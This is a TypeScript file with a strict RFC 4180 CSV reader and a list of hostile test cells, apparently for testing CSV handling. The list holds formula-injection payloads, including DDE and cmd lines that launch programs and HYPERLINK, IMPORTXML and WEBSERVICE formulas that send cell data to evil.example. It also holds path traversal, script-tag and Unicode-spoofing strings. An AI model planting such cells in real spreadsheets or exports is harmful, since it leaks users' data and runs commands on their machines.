/** A strict reader of RFC 4180, and hostile texts to read back. */

/** The lines of a table; throws where a byte does not fit the grammar. */
export function readCsv(text: string): string[][] {
  const lines: string[][] = [];
  let line: string[] = [];
  let at = 0;
  const fault = (what: string) => new Error(`Not RFC 4180 at ${at}: ${what}`);
  while (at < text.length) {
    let cell = "";
    if (text[at] === '"') {
      for (at++; ;) {
        const end = text.indexOf('"', at);
        if (end === -1) throw fault("a quote that never ends");
        cell += text.slice(at, end);
        at = end + 1;
        if (text[at] !== '"') break;
        cell += '"';
        at++;
      }
    } else {
      const end = /[",\r\n]/g;
      end.lastIndex = at;
      const stop = end.exec(text)?.index ?? text.length;
      cell = text.slice(at, stop);
      at = stop;
    }
    line.push(cell);
    if (text[at] === ",") {
      at++;
      // A comma at the very end has an empty cell behind it, with its line end still to come.
      continue;
    }
    if (text[at] !== "\r" || text[at + 1] !== "\n")
      throw fault("neither a comma nor a line end behind a cell");
    at += 2;
    lines.push(line);
    line = [];
  }
  if (line.length > 0) throw fault("no line end");
  return lines;
}

/** What spreadsheets calculate, fetch or start, and what breaks readers, terminals and file names. */
export function hostileCells(): string[] {
  const formulas = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?x="&A1,"click")',
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    'WEBSERVICE("https://evil.example/"&A2)',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)",
    "file-2026.txt",
    '"quoted"',
    "a,b",
    "a;b",
    "",
  ];
  const signs = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
  const signed = signs.flatMap((sign) => formulas.map((formula) => sign + formula));
  const doubled = signs.flatMap((sign) => [`'${sign}1`, `''${sign}1`, `${sign}${sign}1`, `'${sign}`]);
  const shapes = [
    "'",
    "''",
    "'plain'",
    '"',
    '""',
    '"""',
    ",",
    ",,",
    "\r\n",
    "a\r\nb",
    "a\nb",
    "a\rb",
    'a"b',
    '"a"',
    'a","=1+1',
    'a"\r\n=1+1,"b',
    " leading",
    "trailing ",
    " =1+1",
    "\u00A0=1+1",
    "\u200B=1+1",
    "\uFEFF=1+1",
    "\uFEFF",
    "\u2028=1",
    "\u202Egnp.exe",
    "sep=;",
    "#REF!",
    "1E5",
    "0123",
    "TRUE",
    "2026-11-23",
    "|calc",
    "%0A=1+1",
    "../../etc/passwd",
    "C:\\Temp\\=1",
    "\\\\server\\share",
    "ünï – ☃ – 日本語 – 🙂",
    "e\u0301",
    "<script>alert(1)</script>",
    "x".repeat(40_000),
    '"'.repeat(1_001),
    "=".repeat(1_001),
  ];
  return [...signed, ...doubled, ...shapes];
}
